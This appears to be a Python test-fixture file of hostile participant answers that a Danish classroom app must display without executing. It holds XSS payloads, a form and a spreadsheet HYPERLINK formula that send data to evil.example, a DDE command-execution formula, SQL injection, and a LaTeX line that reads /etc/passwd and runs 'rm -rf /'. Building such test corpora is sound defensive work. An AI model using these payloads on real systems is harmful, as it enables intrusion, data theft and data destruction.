"""Answers a participant could type (by accident or not) that must be printed, never obeyed."""

from __future__ import annotations

MEGABYTE = "æøå " * 262_144
"""One million characters of Danish letters and spaces (about 1.5 MB as UTF-8)."""

HOSTILE: dict[str, str] = {
    "script": '<script>alert("svar")</script>',
    "img-onerror": '<img src="x" onerror="alert(1)">',
    "javascript-link": '<a href="javascript:alert(1)">klik</a>',
    "markdown-links": "[klik her](javascript:alert(1)) og [web](https://evil.example/)",
    "markdown-image": "![billede](https://evil.example/pixel.png)",
    "latex": r"$\LaTeX$ og $$\int_0^1 x\,dx$$ og \(a^2\)",
    "style-and-link": "<style>body{display:none}</style>"
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "iframe-svg": '<iframe src="https://evil.example/"></iframe><svg onload=alert(1)>',
    "break-out": "</div></main></body></html><script>alert(2)</script>",
    "jinja": "{{ resources }} {% raw %} {# x #}",
    "markdown": "# Overskrift\n\n**fed** _kursiv_ `kode`\n\n- punkt",
    "entities": "&lt;script&gt; &amp; &#60;b&#62;",
    "comment-cdata": "<!-- kommentar --> <![CDATA[x]]>",
    "control": "før\x00\x07\x1b[31mrød\x1b[0m\x08efter\x7f\x85\x9b slut",
    "rtl": "שלום עולם — مرحبا بالعالم \u202eevil\u202c tilbage",
    "emoji": "👩\u200d👧\u200d👦 🇩🇰 ❤️ 🔥 tak",
    "megabyte": MEGABYTE,
}

MORE_HOSTILE: dict[str, str] = {
    # What a websocket client can send and no keyboard types.
    "lone-surrogate": "før \ud800 efter",
    "lone-low-surrogate": "\udfff slut",
    "only-nul": "\x00",
    "nul-mid-word": "pa\x00ssword",
    "osc-title": "\x1b]0;ny titel\x07 tekst \x1b[2J ryddet",
    "carriage-returns": "linje 1\r\nlinje 2\rlinje 3",
    "line-separators": "a\u2028b\u2029c\x85d",
    # Spreadsheet formulas (CSV injection).
    "csv-hyperlink": '=HYPERLINK("https://evil.example/?"&A1;"klik")',
    "csv-plus": "+SUM(1,2)",
    "csv-minus": "-2+3",
    "csv-at": "@SUM(A1)",
    "csv-tab": "\t=1+1",
    "csv-cr": "\r=1+1",
    "csv-dde": "=cmd|' /C calc'!A0",
    "csv-separators": 'a;b,"c"\nd',
    # Direction and invisible characters.
    "rlo-filename": "rapport\u202egpj.exe",
    "isolates": "\u2066isoleret\u2069 og \u2067rtl\u2069",
    "zero-width": "skjult\u200b\u200c\u200dtekst\ufeff",
    "hebrew-arabic-mixed": "Barnet sagde: ״אני רעב״ og «أنا جائع» i frikvarteret",
    # More HTML and JavaScript.
    "svg-xlink": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "data-url": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "form": '<form action="https://evil.example/"><input name="pin"></form>',
    "details-ontoggle": "**<u>fed</u>** <details open ontoggle=alert(1)>",
    "js-template": "${alert(1)} `${document.cookie}`",
    "fullwidth-brackets": "＜script＞alert(1)＜/script＞",
    "nested-entities": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    # More Markdown and LaTeX.
    "markdown-reference": "[klik][1]\n\n[1]: javascript:alert(1)",
    "markdown-autolink": "<javascript:alert(1)> <https://evil.example/>",
    "mathjax-href": r"\(\require{html}\href{javascript:alert(1)}{x}\)",
    "latex-input": r"\input{/etc/passwd} \write18{rm -rf /} \def\x{y}",
    # Text that is merely unusual.
    "zalgo": "Z̷̢̛a̶͎l̸̰g̷̤o̴̱",
    "emoji-modifiers": "👍🏽 🏳️‍🌈 🧑🏿‍🦱",
    "cjk": "中文 日本語 한국어",
    "sql": "'; DROP TABLE answers; --",
    "format-strings": "{0.__class__} %s %(x)s {{ x }}",
    "long-word": "x" * 5_000,
    "many-lines": "\n".join(["linje"] * 2_000),
    "at-the-limit": "ø" * 20_000,
    # Over the limit: refused with a Danish message, never stored.
    "just-over-the-limit": "æ" * 20_001,
}

CORPUS: dict[str, str] = HOSTILE | MORE_HOSTILE
"""Every hostile input: the handout, the CSV and the plenum must print each, obey none."""
